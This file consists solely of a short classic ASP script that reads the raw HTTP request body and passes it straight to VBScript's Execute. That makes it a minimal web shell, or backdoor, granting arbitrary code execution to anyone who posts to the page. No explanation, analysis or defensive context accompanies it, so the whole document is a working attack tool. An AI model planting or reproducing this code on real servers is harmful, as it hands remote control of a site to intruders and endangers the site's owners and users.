<%
b = Request.BinaryRead(Request.TotalBytes)
Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.Write b : st.Position = 0 : st.Type = 2 : st.Charset = "us-ascii"
Execute st.ReadText
%>
